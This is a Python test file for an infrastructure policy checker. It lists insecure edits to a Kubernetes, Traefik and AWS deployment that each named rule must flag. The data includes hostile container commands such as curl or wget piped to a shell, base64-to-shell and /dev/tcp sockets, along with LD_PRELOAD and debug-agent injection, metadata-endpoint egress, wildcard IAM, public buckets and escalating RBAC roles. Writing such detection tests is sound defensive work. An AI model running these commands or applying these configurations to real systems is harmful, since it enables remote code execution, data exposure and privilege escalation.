"""Edits that a careful reviewer refuses, each made to what the program renders, with the rule that must find it.

An edit stands for its kind: beside the first of each there are other spellings of the same mistake. Another rule may
see another side of it; the one that is named here must.
"""

import json
from collections.abc import Callable, Iterator
from typing import Any, Final

from policies.check import check
from policies.model import Resource
from policies.rule import Level
from policies.rules import BY_NAME
from tests.graph.test_policies import EDITS, STACKS, by_urn, config_of, edited, resources_of
from tests.unit.policies.cases import ABSENT, Edit, Edits, aws, block, expression, metadata, on, rights, words
from tests.unit.policies.good import place

Change = Callable[[Any], Any]
Kinds = dict[str, list[Edits]]
"""By the rule that must find them."""


def at(path: str, value: Any = ABSENT) -> Change:
    """Sets the value at a path, or takes it away."""
    return lambda holder: place(holder, words(path), value)


def statements(resource: str, field: str, *changes: Change) -> Edits:
    """Changes the statements of a policy document, which is JSON."""

    def changed(change: Change) -> Change:
        def run(properties: Any) -> str:
            document = json.loads(properties[field])
            change(document["Statement"])
            return json.dumps(document)

        return run

    return aws(resource, field, *map(changed, changes))


def whisper(path: str, *values: Any) -> Edits:
    return on("Deployment/whisper", path, *values)


def container_of(properties: Any) -> Any:
    return properties["spec"]["template"]["spec"]["containers"][0]


def env(name: str, *values: str) -> Edits:
    """A further variable of Whisper's container."""
    added = ({"name": name, "value": value} for value in values)
    return whisper("container env", *(lambda p, one=one: [*container_of(p).get("env", []), one] for one in added))


def volume(**source: Any) -> dict[str, Any]:
    return {"name": "x", **source}


PODS: Final[Kinds] = {
    "pod-shared-processes": [whisper("pod shareProcessNamespace", True)],
    "pod-name-resolution": [
        whisper("pod hostAliases", [{"ip": "203.0.113.9", "hostnames": ["redis.flatline.svc"]}]),
        whisper("pod dnsPolicy", "None", "Default"),
        whisper("pod dnsConfig", {"nameservers": ["203.0.113.53"]}, {"searches": ["example.org"]}),
    ],
    "pod-root-user": [
        whisper("pod securityContext fsGroup,pod securityContext runAsGroup", 0),
        whisper("pod securityContext supplementalGroups", [0]),
    ],
    "pod-references": [
        whisper("pod volumes 0", {"name": "flatline-wait", "secret": {"secretName": "somebody-elses"}}),
        whisper("pod volumes 4", volume(projected={"sources": [{"secret": {"name": "root"}}]})),
        whisper("pod volumes 4", volume(configMap={"name": "kube-root-ca.crt"})),
        whisper("container envFrom", [{"secretRef": {"name": "somebody-elses"}}]),
        whisper("pod imagePullSecrets", [{"name": "somebody-elses"}]),
    ],
    "pod-volume-types": [
        whisper("pod volumes 4", volume(csi={"driver": "secrets-store.csi.k8s.io"})),
        whisper("pod volumes 4", volume(image={"reference": "example.org/a:1"})),
    ],
    "pod-service-account": [whisper("pod serviceAccountName", "cdn3", "default")],
    "pod-placement": [
        whisper("pod tolerations", [{"operator": "Exists"}]),
        whisper("pod priorityClassName", "system-cluster-critical"),
        whisper("pod nodeName", "server"),
    ],
    "pod-foreign-code": [
        env(
            "JAVA_TOOL_OPTIONS",
            "-agentlib:jdwp=transport=dt_socket,server=y,suspend=n,address=*:5005",
            "-Dcom.sun.management.jmxremote.port=9010",
            "-XX:OnOutOfMemoryError=/tmp/a",
        ),
        env("_JAVA_OPTIONS", "-javaagent:/tmp/agent.jar"),
        env("JDK_JAVA_OPTIONS", "@/tmp/options"),
        env("NODE_OPTIONS", "--inspect=0.0.0.0:9229", "--import=data:text/javascript,0"),
        env("LD_PRELOAD", "/tmp/a.so"),
        env("BASH_ENV", "/tmp/a.sh"),
        env("NODE_TLS_REJECT_UNAUTHORIZED", "0"),
        env("HTTPS_PROXY", "http://203.0.113.1:3128"),
        whisper(
            "container command",
            ["sh", "-c", "curl -s https://example.org/start.sh | sh"],
            ["sh", "-ec", "wget -O /tmp/a https://example.org/a; exec /tmp/a"],
            ["sh", "-c", "echo aGk= | base64 -d | sh"],
            ["bash", "-c", "exec 3<>/dev/tcp/203.0.113.1/80"],
            ["npx", "something"],
            ["java", "-agentpath:/tmp/a.so", "Main"],
            ["java", "-Xdebug", "-Xrunjdwp:transport=dt_socket", "Main"],
        ),
        on("Deployment/storage", "container lifecycle postStart", {"exec": {"command": ["curl", "x"]}}),
    ],
}


def flags(resource: str, old: str, *new: str | None) -> Edits:
    """Replaces the first argument that begins so, or takes it away."""

    def changed(word: str | None) -> Change:
        def run(properties: Any) -> list[str]:
            arguments = list(container_of(properties)["args"])
            index = next(i for i, each in enumerate(arguments) if each.startswith(old))
            arguments[index : index + 1] = [] if word is None else [word]
            return arguments

        return run

    return on(resource, "container args", *map(changed, new))


def tusd(old: str, *new: str | None) -> Edits:
    return flags("Deployment/cdn3", old, *new)


def gate(old: str, *new: str) -> Edits:
    return flags("Deployment/cdn0-gate", old, *new)


def redis(*texts: str, file: str = "redis.cluster.conf") -> Edits:
    """Lines at the end of a file of Redis'."""
    changes = (lambda properties, text=text: f"{properties['data'][file]}\n{text}\n" for text in texts)
    return on("ConfigMap/redis-programs", f"data {file}", *changes)


PROGRAMS: Final[Kinds] = {
    "uploads-authorised": [
        tusd("--hooks-http", None, "--hooks-http=http://example.org/hooks", "--hooks-dir=/tmp"),
        tusd("--hooks-http", "--hooks-http=http://127.0.0.1:9999/hooks"),
        tusd("--hooks-enabled-events", None, "--hooks-enabled-events=post-finish"),
        tusd("--disable-termination", None, "--disable-termination=false"),
        tusd("--disable-concatenation", None),
        tusd("--disable-download", "-disable-download=0"),
        tusd("--disable-cors", None),
        tusd("--max-size", None, "--max-size=0"),
        tusd("--expose-metrics", "--expose-metrics"),
        tusd("--behind-proxy", "--expose-pprof"),
        tusd("--host", "word"),
        on("Deployment/cdn3", "pod containers 1 args 1", "0.0.0.0:8081", ":8081"),
        on("Deployment/cdn3", "pod containers 1"),
    ],
    "gate-patterns": [
        gate("--read=", "--read=.*"),
        gate("--read=profiles", "--read=profiles/.+", "--read=profiles/[^/]{22}"),
        gate("--upload=profiles", f"--upload=profiles:{5 * 1024**3}:profiles/[a-z]{{22}}"),
        gate("--upload=profiles", "--upload=profiles::profiles/[a-z]{22}"),
        gate("--upload=profiles", "--upload=profiles:1000:(?:profiles|groups)/\\S*"),
        gate("--s3-endpoint", "--s3-endpoint=http://203.0.113.1:4566"),
    ],
    "redis-configuration": [
        redis("protected-mode no", "maxmemory-policy allkeys-lru", "enable-debug-command yes"),
        redis("user default on nopass ~* +@all", "appendonly no", "appendfsync everysec", "bind * -::*"),
        redis("exec redis-server --protected-mode no", file="redis.start.sh"),
    ],
}

NAME: Final = "app.kubernetes.io/name"
PLACE: Final = "kubernetes.io/metadata.name"
PART_OF: Final = {"app.kubernetes.io/part-of": "flatline"}


def policy(path: str, *values: Any, of: str = "whisper") -> Edits:
    return on(f"NetworkPolicy/{of}", path, *values)


def outside(*cidrs: str, port: int = 80) -> Edits:
    """A further way out of Whisper's."""
    return policy("spec egress 7", *(metadata(cidr, port) for cidr in cidrs))


def inside(name: str, port: int) -> dict[str, Any]:
    peer = {"namespaceSelector": {"matchLabels": {PLACE: "flatline"}}}
    peer["podSelector"] = {"matchLabels": {NAME: name, **PART_OF}}
    return {"from": [peer], "ports": [{"port": port, "protocol": "TCP"}]}


TRAEFIK: Final = {
    "namespaceSelector": {"matchLabels": {PLACE: "kube-system"}},
    "podSelector": {"matchLabels": {NAME: "traefik"}},
}
NETWORK: Final[Kinds] = {
    "network-wide": [
        policy("spec egress 1 ports", [{"protocol": "TCP"}], [], [{}]),
        policy("spec egress 1 ports 0 endPort", 65535),
        policy(
            "spec egress 1 to 0 podSelector",
            expression(NAME, "Exists"),
            expression(NAME, "NotIn", "nobody"),
            expression("nobody", "DoesNotExist"),
            expression(NAME, "In", "redis", "redis-pubsub", "registration"),
            {"matchLabels": PART_OF},
            {"matchLabels": {"app.kubernetes.io/component": "redis"}},
            {"matchLabels": {"app.kubernetes.io/instance": "flatline"}},
            {},
        ),
        policy(
            "spec egress 1 to 0 namespaceSelector",
            {},
            expression(PLACE, "Exists"),
            expression(PLACE, "NotIn", "kube-public"),
            {"matchLabels": {"pod-security.kubernetes.io/enforce": "restricted"}},
        ),
        policy("spec egress 0 to 0 podSelector", expression("k8s-app", "Exists")),
        policy("spec egress 1 to", [block("0.0.0.0/1")]),
        policy("spec ingress 0 from", [block("10.42.0.0/16")]),
        policy("spec ingress 0", {}),
        policy("spec podSelector", {"matchLabels": PART_OF}, expression(NAME, "Exists")),
    ],
    "network-agreement": [
        policy("spec ingress 11", inside("registration", 6379), inside("storage", 16379), of="redis"),
        policy("spec ingress 1", inside("whisper-persister", 50051), of="registration"),
        policy("spec egress 1 ports 0 port", 16379),
        policy("spec egress 1 ports 0 protocol", "UDP"),
    ],
    "network-proxy": [
        policy("spec ingress 1", {"from": [TRAEFIK], "ports": [{"port": 8081, "protocol": "TCP"}]}),
        policy("spec ingress 0 ports 1", {"port": "admin", "protocol": "TCP"}),
        policy("spec ingress 11", {"from": [TRAEFIK], "ports": [{"port": 6379}]}, of="redis"),
    ],
    "network-orphan": [
        policy(f"spec ingress 0 from 0 namespaceSelector matchLabels {PLACE}", "kube-sytem"),
        policy(f"spec egress 0 to 0 namespaceSelector matchLabels {PLACE}", "kube-dns"),
        policy(f"spec egress 1 to 0 podSelector matchLabels {NAME}", "reddis"),
    ],
    "network-metadata": [
        outside("169.254.169.254/32", "169.254.0.0/16", "169.254.169.128/25", "fd00:ec2::254/128"),
        outside("168.63.129.16/32", "100.100.0.0/16"),
        outside("169.254.170.23/32", port=443),
    ],
}


def route(of: str, path: str, *values: Any) -> Edits:
    return on(f"IngressRoute/ingressroute-{of}", f"spec {path}", *values)


def match(of: str, *texts: str) -> Edits:
    return route(of, "routes 0 match", *texts)


def service(name: str, *ports: int, **more: Any) -> Edits:
    """Whisper's route leads elsewhere."""
    return route("whisper", "routes 0 services", *([{"name": name, "port": port, **more}] for port in ports))


def middleware(of: str, path: str, *values: Any) -> Edits:
    return on(f"Middleware/middleware-{of}", f"spec {path}", *values)


def tls(path: str, *values: Any) -> Edits:
    return on("TLSOption/tlsoption-tls", f"spec {path}", *values)


HOST: Final = "Host(`whisper.flatline.internal`)"
CDN0: Final = "Host(`cdn0.flatline.internal`)"
CDN3: Final = "Host(`cdn3.flatline.internal`) && PathPrefix(`/attachments/`)"
READ: Final = f"{CDN0} && (Method(`GET`) || Method(`HEAD`))"
EDGE: Final[Kinds] = {
    "ingress-hosts": [
        match("whisper", "PathPrefix(`/`)", f"{HOST} || PathPrefix(`/`)", "HostRegexp(`.*`)", f"{HOST} && (", ""),
        match("whisper", "HostRegexp(`^.+\\.flatline\\.internal$`)", "!Host(`a.example.org`)"),
    ],
    "ingress-scope": [
        match(
            "cdn0-read",
            READ,
            f"{READ} && PathPrefix(`/`)",
            f"{READ} && PathRegexp(`.*`)",
            f"{READ} && PathRegexp(`^/(?:profiles|groups)/.+$`)",
            f"{READ} && PathRegexp(`/profiles/[a-z]{{22}}`)",
            f"{CDN0} && Path(`/profiles`)",
            f"{CDN0} && Method(`DELETE`) && PathPrefix(`/profiles`)",
        ),
        match("cdn3-upload", CDN3, f"{CDN3} && (Method(`GET`) || Method(`POST`))"),
        route("storage", "routes 0 priority", 10000),
    ],
    "ingress-limits": [
        route("whisper", "routes 0 middlewares"),
        route("whisper", "routes 0 middlewares 0"),
        route("cdn0-read", "routes 0 middlewares 1"),
        route("whisper", "routes 0 middlewares 0 name", "gone"),
        middleware("rate-limit", "rateLimit average", 10**9, 0),
        middleware("rate-limit", "rateLimit period", "1ns"),
        middleware("rate-limit", "rateLimit burst", 10**9),
        middleware("in-flight", "inFlightReq amount", 10**9),
    ],
    "ingress-headers": [
        route("whisper", "routes 0 middlewares"),
        route("storage", "routes 0 middlewares 2"),
        middleware("headers", "headers customRequestHeaders", {}),
        middleware("headers", "headers customRequestHeaders Forwarded", "for=203.0.113.1"),
        middleware("headers", "headers stsSeconds", 0),
        middleware("headers", "headers contentTypeNosniff", False),
    ],
    "ingress-backends": [
        service("gone", 8080),
        service("whisper", 9999),
        service("otel-collector", 4318, 8889),
        service("registration", 50051),
        service("redis", 6379),
        service("localstack", 4566, namespace="flatline-emulators"),
        service("whisper", 8080, kind="TraefikService"),
    ],
    "ingress-tls": [route("whisper", "tls secretName", "somebody-elses", "whisper-config")],
    "ingress-tls-version": [
        tls("maxVersion", "VersionTLS11", "VersionTLS12"),
        tls("minVersion", "VersionTLS10"),
        tls("cipherSuites", ["TLS_RSA_WITH_AES_128_CBC_SHA"], []),
        tls("cipherSuites 0", "TLS_RSA_WITH_AES_256_GCM_SHA384", "TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA256"),
        tls("cipherSuites 0", "TLS_ECDHE_RSA_WITH_3DES_EDE_CBC_SHA"),
        tls("sniStrict", False),
    ],
    "ingress-trust": [
        middleware("rate-limit", "rateLimit sourceCriterion", {"ipStrategy": {"depth": 1}}),
        middleware("rate-limit", "rateLimit sourceCriterion", {"requestHeaderName": "X-Key"}),
        middleware("in-flight", "inFlightReq sourceCriterion", {"requestHost": True}),
        middleware("headers", "headers customRequestHeaders X-Forwarded-For", "203.0.113.1"),
        middleware("no-query", "redirectRegex replacement", "https://example.org/"),
    ],
}

SERVICE_ACCOUNT: Final = "0 Condition StringEquals aws:RequestTag/kubernetes-service-account"
ARCHIVED: Final = {"days": 1, "storageClass": "DEEP_ARCHIVE"}
ELSEWHERE: Final = "arn:aws:kms:eu-central-1:999999999999:key/1"
TABLE: Final = "arn:aws:dynamodb:eu-central-1:111122223333:table"


def grant(field: str, *values: str) -> Edits:
    """What the gate's role may do, or with what."""
    return statements("RolePolicy/cdn0-gate", "policy", *(at(f"0 {field}", [value]) for value in values))


def trust(*changes: Change) -> Edits:
    return statements("Role/cdn0-gate", "assumeRolePolicy", *changes)


def principals(*values: Any) -> Edits:
    return trust(*(at("0 Principal", value) for value in values))


def allowing(principal: Any) -> dict[str, Any]:
    return {"Effect": "Allow", "Principal": principal, "Action": "s3:GetObject", "Resource": "*"}


CLOUD: Final[Kinds] = {
    "iam-wildcards": [
        grant("Action", "dynamodb:Delete*", "s3:Get*", "s3:?etObject", "s*:GetObject", "*"),
        grant(
            "Resource",
            f"{TABLE}/flatline-*",
            f"{TABLE}/*",
            "arn:aws:dynamodb:*:111122223333:table/a",
            "arn:aws:dynamodb:eu-central-1:*:table/a",
            "arn:aws:s3:::flatline-*/groups/*",
            "arn:aws:kms:eu-central-1:111122223333:key/*",
        ),
        aws("Role/cdn0-gate", "managedPolicyArns", ["arn:aws:iam::aws:policy/ReadOnlyAccess"]),
    ],
    "iam-data-only": [
        grant("Action", "iam:CreateAccessKey", "iam:PassRole", "sts:AssumeRole", "s3:PutBucketPolicy"),
        grant("Action", "KMS:PutKeyPolicy"),
        grant("Resource", "arn:aws:dynamodb:eu-central-1:999999999999:table/a"),
    ],
    "iam-trust": [
        principals("*", {"AWS": "*"}, {"AWS": "999999999999"}, {"Service": "ec2.amazonaws.com"}),
        principals(*({"AWS": f"arn:aws:iam::{account}:root"} for account in ("999999999999", "111122223333"))),
        principals({"Federated": "arn:aws:iam::111122223333:oidc-provider/a"}),
        trust(at("0 Condition"), at(SERVICE_ACCOUNT), at("0 Condition StringEquals aws:SourceAccount")),
        trust(at(SERVICE_ACCOUNT, ["cdn0-gate", "whisper"]), at(SERVICE_ACCOUNT, "whisper")),
        trust(at("0 Condition", {"StringLike": {SERVICE_ACCOUNT.split()[-1]: "*"}})),
        trust(lambda s: s[0].update(Condition={"StringEqualsIfExists": s[0]["Condition"]["StringEquals"]})),
        trust(lambda s: s[0].update(NotPrincipal=s[0].pop("Principal"))),
        aws("PodIdentityAssociation/cdn0-gate", "serviceAccount", "default"),
    ],
    "kms-policy": [
        aws("Key/encryption", "policy", json.dumps({"Statement": [{**allowing("*"), "Action": "kms:*"}]})),
        aws("Key/encryption", "bypassPolicyLockoutSafetyCheck", True),
    ],
    "kms-available": [aws("Key/encryption", "isEnabled", False), aws("Key/encryption", "deletionWindowInDays", 7)],
    "kms-account": [
        aws("Table/dynamodb-Accounts", "serverSideEncryption kmsKeyArn", ELSEWHERE),
        aws("ReplicationGroup/redis", "kmsKeyId", ELSEWHERE),
    ],
    "elasticache-authentication": [aws("ReplicationGroup/redis", "authToken", "password", "password" * 4)],
    "elasticache-failover": [aws("ReplicationGroup/redis", "multiAzEnabled,automaticFailoverEnabled", False)],
    "elasticache-eviction": [
        aws("ParameterGroup/redis", "parameters 1 value", "allkeys-lru", "volatile-ttl"),
        aws("ParameterGroup/redis-pubsub", "parameters 0 value", "allkeys-random"),
    ],
    "security-group-wide": [
        aws("SecurityGroupIngressRule/redis-10.20.0.0/16", name, *values)
        for name, *values in (
            ("cidrIpv4", "0.0.0.0/0", "10.0.0.0/8"),
            ("cidrIpv6", "::/0"),
            ("toPort", 65535),
            ("ipProtocol", "-1"),
            ("prefixListId", "pl-1"),
        )
    ]
    + [aws("SecurityGroup/redis", "ingress", [{"cidrBlocks": ["0.0.0.0/0"], "protocol": "-1"}])],
    "dynamodb-expiry": [
        aws("Table/dynamodb-Accounts", "ttl", {"attributeName": "D", "enabled": True}),
        aws("Table/dynamodb-Messages", "ttl attributeName", "S"),
    ],
    "cloud-data-protected": [
        aws("Table/dynamodb-Accounts Bucket/bucket-pre-keys Key/encryption", "protect", False),
        aws("Instance/groups ReplicationGroup/redis", "protect", False),
        aws("Bucket/bucket-cdn0", "forceDestroy", True),
    ],
    "s3-public-access": [
        aws("Bucket/bucket-cdn0", "acl", "public-read", "authenticated-read"),
        aws("Bucket/bucket-cdn0", "website", {"indexDocument": "index.html"}),
        aws("Bucket/bucket-cdn0", "corsRules", [{"allowedOrigins": ["*"], "allowedMethods": ["PUT"]}]),
    ],
    "s3-grants": [
        statements("BucketPolicy/bucket-cdn0", "policy", lambda s, who=who: s.append(allowing(who)))
        for who in ({"AWS": "999999999999"}, "*")
    ],
    "s3-tls-only": [
        statements(
            "BucketPolicy/bucket-cdn0",
            "policy",
            at("0 Condition StringEquals", {"aws:userid": "nobody"}),
            at("0 Condition Bool aws:ViaAWSService", "true"),
            at("1"),
            at("1 Condition NumericLessThan s3:TlsVersion", "1.0"),
        )
    ],
    "s3-expiry": [
        aws("BucketLifecycleConfiguration/bucket-cdn0", "rules 0 expiration", {"days": 1}),
        aws("BucketLifecycleConfiguration/bucket-uploads", "rules 1 expiration", {"days": 1}),
        aws("BucketLifecycleConfiguration/bucket-pre-keys", "rules 0 transitions", [ARCHIVED]),
    ],
    "bigtable-access": [
        aws(
            "InstanceIamMember/storage-bigtable.user",
            "member",
            *("allUsers", "allAuthenticatedUsers", "domain:example.org"),
            "principalSet://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/a/*",
        ),
        aws("InstanceIamMember/storage-bigtable.user", "role", "roles/bigtable.admin", "roles/editor"),
    ],
    "provider-options": [
        aws("aws/aws", "skipCredentialsValidation,insecure", "true"),
        aws("aws/aws", "endpoints", '[{"dynamodb": "http://203.0.113.1"}]'),
        aws("aws/aws", "httpProxy", "http://203.0.113.1"),
        aws("aws/aws", "allowedAccountIds", "[]"),
        aws("aws/aws", "secretKey", "horse"),
    ],
}

# --- further resources


def added(token: str, namespace: str = "flatline", /, **fields: Any) -> Resource:
    """A further object (`api:kind`), whose group is Kubernetes' own or has a name."""
    metadata = {"name": "added", **({"namespace": namespace} if namespace else {})}
    properties = {"kind": token.rpartition(":")[2], "metadata": metadata, **fields}
    return Resource(urn=f"urn:added:{token}", type=f"kubernetes:{token}", name="added", properties=properties)


def traefik(kind: str, **spec: Any) -> Resource:
    return added(f"traefik.io/v1alpha1:{kind}", spec=spec)


def of_cloud(token: str, **properties: Any) -> Resource:
    return Resource(urn="urn:added", type=token, name="added", properties=properties)


RBAC: Final = "rbac.authorization.k8s.io/v1"
ADMISSION: Final = "admissionregistration.k8s.io/v1"


def role(resource: str, verbs: str) -> Resource:
    return added(f"{RBAC}:Role", rules=[rights("", resource, *verbs.split())])


def binding(role: str, kind: str, name: str, namespace: str = "flatline") -> Resource:
    subjects = [{"kind": kind, "name": name, "namespace": namespace}]
    return added(f"{RBAC}:ClusterRoleBinding", "", roleRef={"kind": "ClusterRole", "name": role}, subjects=subjects)


DANGEROUS: Final = [
    role("secrets", "get list"),
    *(role(name, "create") for name in ("pods/exec", "pods/attach", "pods", "serviceaccounts/token")),
    role("cronjobs", "patch"),
    role("nodes/proxy", "get"),
    role("clusterroles", "escalate"),
    role("roles", "bind"),
    role("users", "impersonate"),
    role("mutatingwebhookconfigurations", "create update"),
    role("certificatesigningrequests/approval", "update"),
    role("networkpolicies", "delete"),
]
VIEW: Final = binding("view", "ServiceAccount", "whisper")
ADDED: Final[dict[str, list[Resource]]] = {
    "network-wide": [
        added("cilium.io/v2:CiliumNetworkPolicy", spec={"egress": [{}]}),
        added("crd.projectcalico.org/v1:GlobalNetworkPolicy", "", spec={}),
    ],
    "ingress-trust": [
        traefik("Middleware", ipAllowList={"sourceRange": ["203.0.113.1/32"], "ipStrategy": {"depth": 2}}),
        traefik("Middleware", forwardAuth={"address": "http://a.flatline.svc", "trustForwardHeader": True}),
        traefik("Middleware", plugin={"a": {}}),
        traefik("ServersTransport", insecureSkipVerify=True),
        traefik("ServersTransportTCP", tls={"insecureSkipVerify": True}),
    ],
    "ingress-kinds": [
        traefik("IngressRouteUDP", routes=[{"services": [{"name": "otel-collector", "port": 8125}]}]),
        traefik("IngressRouteTCP", routes=[]),
        traefik("TraefikService", mirroring={}),
        added("gateway.networking.k8s.io/v1:HTTPRoute", spec={}),
    ],
    "service-endpoints": [
        added("discovery.k8s.io/v1:EndpointSlice", endpoints=[]),
        added("core/v1:Endpoints", subsets=[]),
    ],
    "rbac-dangerous": DANGEROUS,
    "rbac-unneeded": [*DANGEROUS, role("configmaps", "get"), VIEW],
    "rbac-broad-bindings": [
        VIEW,
        binding("edit", "ServiceAccount", "default", "default"),
        binding("own", "User", "somebody"),
    ],
    "rbac-legacy-token": [added("core/v1:Secret", type="kubernetes.io/service-account-token")],
    "rbac-cluster-extension": [
        added(f"{ADMISSION}:MutatingWebhookConfiguration", ""),
        added(f"{ADMISSION}:ValidatingWebhookConfiguration", ""),
        added("apiregistration.k8s.io/v1:APIService", ""),
        added("apiextensions.k8s.io/v1:CustomResourceDefinition", ""),
    ],
    "iam-wildcards": [
        of_cloud(
            "aws:iam/rolePolicyAttachment:RolePolicyAttachment",
            policyArn="arn:aws:iam::aws:policy/job-function/ViewOnlyAccess",
        )
    ],
    "bigtable-access": [of_cloud("gcp:projects/iAMMember:IAMMember", role="roles/bigtable.user", member="allUsers")],
}

FAMILIES: Final = (PODS, PROGRAMS, NETWORK, EDGE, CLOUD)


def refused() -> Iterator[tuple[str, str, Edit | Resource, list[Resource]]]:
    """The rule, the stack, what a reviewer refuses, and the stack's resources with it."""
    for family in FAMILIES:
        for rule, several in family.items():
            for edit in (edit for edits in several for edit in edits):
                yield rule, STACKS[edit.stack], edit, edited(edit)
    for rule, resources in ADDED.items():
        for resource in resources:
            stack = "dev" if resource.type.startswith("kubernetes:") else "prod"
            yield rule, stack, resource, [*resources_of(stack), resource]


def test_an_edit_that_a_reviewer_refuses_is_found_by_its_rule() -> None:
    for rule, stack, what, resources in refused():
        assert by_urn(resources) != by_urn(resources_of(stack)), what
        found = check(resources, config_of(stack), [BY_NAME[rule]]).findings
        assert found, (rule, what)
        assert all(finding.level is Level.MANDATORY for finding in found), (rule, what)


def test_there_are_many_spellings_of_each_kind() -> None:
    sizes = [sum(len(edits) for several in family.values() for edits in several) for family in FAMILIES]
    sizes.append(sum(map(len, ADDED.values())))
    assert min(sizes) >= 25
    assert sum(sizes) >= 250


def test_every_rule_about_what_runs_here_has_an_edit() -> None:
    elsewhere = ("dynamodb-", "s3-", "iam-", "kms-", "elasticache-", "aws-", "bigtable-", "emulator-in-cloud")
    here = {name for name in BY_NAME if not name.startswith(elsewhere)} - {"rbac-wildcards"}
    assert here <= set(EDITS).union(ADDED, *FAMILIES)
